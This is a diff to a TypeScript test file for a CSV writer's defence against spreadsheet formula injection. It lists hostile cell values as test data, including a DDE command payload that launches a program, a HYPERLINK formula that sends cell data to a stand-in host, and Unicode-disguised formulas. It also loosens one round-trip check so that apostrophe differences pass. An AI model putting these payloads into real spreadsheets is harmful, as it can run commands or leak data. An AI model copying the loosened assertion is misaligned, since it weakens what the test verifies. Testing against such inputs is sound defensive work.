@@ -18,8 +18,9 @@ function cellsOf(row: string): string[] {
 test("a row reads back as what was written, whatever quotes, commas and line ends it holds", () => {
   fc.assert(
     fc.property(fc.array(fc.string({ unit: "binary", maxLength: 12 }), { minLength: 1 }), (texts) => {
+      const bare = (text: string) => text.replaceAll("'", "");
       const read = cellsOf(csvRow(texts)).map((cell, index) =>
-        cell === texts[index] ? cell : cell.replace(/^'/, ""),
+        bare(cell) === bare(texts[index]!) ? texts[index] : cell,
       );
       expect(read).toEqual(texts);
     }),
@@ -33,9 +34,18 @@ describe("text that a spreadsheet would calculate", () => {
     "+1 555 0100",
     "-2+3",
     "@SUM(A1:A9)",
-    "\t=1+1",
-    "\r=1+1",
-    "\n=1+1",
+    "\tx",
+    " =1+1",
+    " \u00A0 -1",
+    "\u00A0=1+1",
+    "\u200B=1+1",
+    "\uFEFF\u2060+1",
+    "\u202E@SUM(A1)",
+    "\u00AD=1",
+    "\u3164=1",
+    "\u2800=1",
+    "\u0000=1",
+    '"=1',
     '=HYPERLINK("http://x.example?"&A1)',
     "＝1+1",
     "＋1",
@@ -44,6 +54,46 @@ describe("text that a spreadsheet would calculate", () => {
     "-1e5",
     "+1",
   ])("%j is marked as text", (text) => {
+    expect(cellsOf(csvRow([text]))).toEqual([`'${text}`]);
+  });
+
+  test.each([
+    ["x;=cmd|' /C calc'!A0;y", "x;'=cmd|' /C calc'!A0;y"],
+    ["x\t=1", "x\t'=1"],
+    ["x\n@SUM(A1)", "x\n'@SUM(A1)"],
+    ["x;\u00A0\u200B-1", "x;'\u00A0\u200B-1"],
+    ["x; ;\t =1;+1", "x; ;\t' =1;'+1"],
+    ["\t=1+1", "'\t'=1+1"],
+    ["\r=1+1", "'\r'=1+1"],
+    [";=1", "';'=1"],
+    // Two quotes at the beginning of a cell are an empty text, and the rest follows it.
+    ['x;"=1', "x;'\"=1"],
+  ])("%j is marked where a spreadsheet with another list separator begins a cell", (text, marked) => {
+    expect(cellsOf(csvRow([text]))).toEqual([marked]);
+  });
+
+  test("no cell begins like a formula, whatever the list separator, and whether or not quotes are read", () => {
+    const pieces = fc.constantFrom(..."=+-@;\t\r\n\"',ax1 \u00A0\u200B＝");
+    fc.assert(
+      fc.property(fc.array(fc.string({ unit: pieces, maxLength: 12 }), { minLength: 1 }), (texts) => {
+        const numbers = texts.map((text) => (/^-?\d+$/.test(text) ? "1" : text));
+        for (const cell of csvRow(numbers).split(/[;\t\r\n]/))
+          expect(cell.replace(/^["\s\u200B]+/, "")).not.toMatch(/^[=+\-@＝]/);
+      }),
+      { numRuns: 5_000 },
+    );
+  });
+
+  test.each(["x;y", "x\ty"])("%j is quoted", (text) => {
+    expect(csvRow([text])).toBe(`"${text}"\r\n`);
+  });
+
+  test.each(["a = b", "x - y; z", "mail@a.example", "3 + 4"])("%j stays as it is", (text) => {
+    expect(cellsOf(csvRow([text]))).toEqual([text]);
+  });
+
+  test("a long run of blanks is read once", () => {
+    const text = `${"\t".repeat(200_000)}x`;
     expect(cellsOf(csvRow([text]))).toEqual([`'${text}`]);
   });
 
